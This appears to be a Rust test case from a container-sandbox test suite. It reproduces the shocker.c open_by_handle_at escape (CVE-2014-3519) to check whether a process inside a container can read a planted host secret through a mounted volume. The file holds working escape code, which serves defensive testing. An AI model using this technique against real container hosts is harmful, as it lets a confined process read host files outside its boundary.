//! A file of the host can't be opened by its handle.

use std::ffi::CString;
use std::os::fd::AsRawFd;

use anyhow::Result;
use nix::fcntl::OFlag;

use crate::call::{
    Arg::{B, N, Room, S},
    call,
};
use crate::cases::Case;
use crate::field::{Field, SECRET};
use crate::inside::{Tries, open};

pub(super) const CASE: Case = Case {
    name: "file_handles",
    does: "opens a host's file outside of its root by open_by_handle_at, with a volume on the same filesystem (shocker.c)",
    cve: Some("CVE-2014-3519"),
    hole: None,
    attack,
    behind: |field| {
        let handle = prepare(field)?;
        field.moat_with("volumes = [\"./volume:/volume\"]", &[&handle])
    },
    open: |field| {
        let (handle, volume) = (prepare(field)?, field.space.path().join("volume"));
        field.naive_with(&[&handle], |naive| naive.volumes.push((volume, "/volume".to_owned())))
    },
};

/// struct file_handle of open_by_handle_at(2): bytes, type, the handle itself.
const HEAD: usize = 8;
const MOST: u8 = 120;

fn attack(tries: &Tries, arguments: &[&str]) {
    let what = "open a host's file";
    let Some(handle) = arguments.first().map(|text| from_hex(text)) else { return };
    let opened = open("/volume", OFlag::O_RDONLY).and_then(|volume| {
        let volume = N(volume.as_raw_fd().into());
        call(libc::SYS_open_by_handle_at, [volume, B(&handle), N(0)])
    });
    match opened {
        Err(errno) => tries.refused(what, format!("{errno:?}")),
        Ok(fd) => match crate::inside::read(&format!("/proc/self/fd/{fd}")) {
            Ok(text) if text == SECRET => tries.got(what, text),
            other => tries.got(what, format!("another: {other:?}")),
        },
    }
}

/// The handle of the secret, which an attacker would guess: in ext4 it is an inode's number.
fn prepare(field: &Field<'_>) -> Result<String> {
    std::fs::create_dir(field.space.path().join("volume"))?;
    let mut handle = [0; HEAD + MOST as usize];
    handle[0] = MOST;
    let (path, mut mount) = (CString::new(field.secret())?, [0; 4]);
    let here = N(libc::AT_FDCWD.into());
    call(libc::SYS_name_to_handle_at, [here, S(&path), Room(&mut handle), Room(&mut mount), N(0)])?;
    Ok(handle.iter().map(|byte| format!("{byte:02x}")).collect())
}

fn from_hex(text: &str) -> Vec<u8> {
    let digits: Vec<u32> = text.chars().filter_map(|digit| digit.to_digit(16)).collect();
    digits.chunks_exact(2).filter_map(|pair| u8::try_from(pair[0] * 16 + pair[1]).ok()).collect()
}
